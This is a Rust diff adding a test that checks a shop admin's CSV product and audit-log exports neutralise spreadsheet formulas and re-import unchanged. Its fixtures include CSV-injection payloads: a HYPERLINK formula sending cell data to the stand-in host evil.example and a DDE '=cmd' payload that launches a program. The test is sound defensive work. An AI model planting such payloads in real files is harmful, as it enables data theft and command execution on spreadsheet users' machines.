@@ -282,4 +282,53 @@ crate::on_both_databases!(
     the_dry_run_shows_each_change_and_an_import_can_be_undone,
     undoing_an_import_archives_what_went_on_sale_and_spares_later_edits,
     a_shopify_export_imports_through_its_column_mapping,
+    exports_neutralise_formulas_and_import_them_back_unchanged,
 );
+
+async fn exports_neutralise_formulas_and_import_them_back_unchanged(db: Db) {
+    let app = TestApp::spawn(db).await;
+    let owner = app.owner().await;
+    let title = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
+    let file = format!(
+        "{HEADER}\nevil,\"{}\",\"=cmd|' /C calc'!A0\",draft,@Vendor,+Type,,,'=already quoted,-dash,,,,,,,EVIL-1,,12.50,,,,true,false\n",
+        title.replace('"', "\"\"")
+    );
+    let dry = upload(&owner, &file).await;
+    assert_eq!(dry.status, StatusCode::OK, "{}", dry.body);
+    apply(&owner, &dry)
+        .await
+        .assert_redirect_to("/admin/products");
+
+    let (_, exported) = download(&owner, "/admin/products/export.csv").await;
+    let mut reader = csv::Reader::from_reader(exported.as_bytes());
+    let row = reader.records().next().unwrap().unwrap();
+    assert_eq!(&row[1], format!("'{title}"));
+    assert_eq!(&row[2], "'=cmd|' /C calc'!A0");
+    assert_eq!((&row[4], &row[5]), ("'@Vendor", "'+Type"));
+    // A file's "'=" is read as a neutralised cell: the value is "=already quoted".
+    assert_eq!((&row[8], &row[9]), ("'=already quoted", "'-dash"));
+    // Amounts are numbers, written as they are.
+    assert_eq!(&row[18], "12.50");
+    // Importing the export changes nothing: the prefix comes off exactly once.
+    let again = upload(&owner, &exported).await;
+    assert_eq!(again.texts("#unchanged"), vec!["1"], "{}", again.body);
+    let product = owner.get("/admin/products?q=EVIL-1").await;
+    assert!(
+        product.texts("tbody tr")[0].contains(title),
+        "{:?}",
+        product.texts("tbody tr")
+    );
+
+    // The audit log's export too: the product's title is a cell of it.
+    let (_, audit) = download(&owner, "/admin/audit/export.csv").await;
+    assert!(
+        audit.contains(&format!("'{}", title.replace('"', "\"\""))),
+        "{audit}"
+    );
+    assert!(
+        !audit
+            .lines()
+            .any(|l| l.split(',').any(|cell| cell.starts_with('='))),
+        "{audit}"
+    );
+}
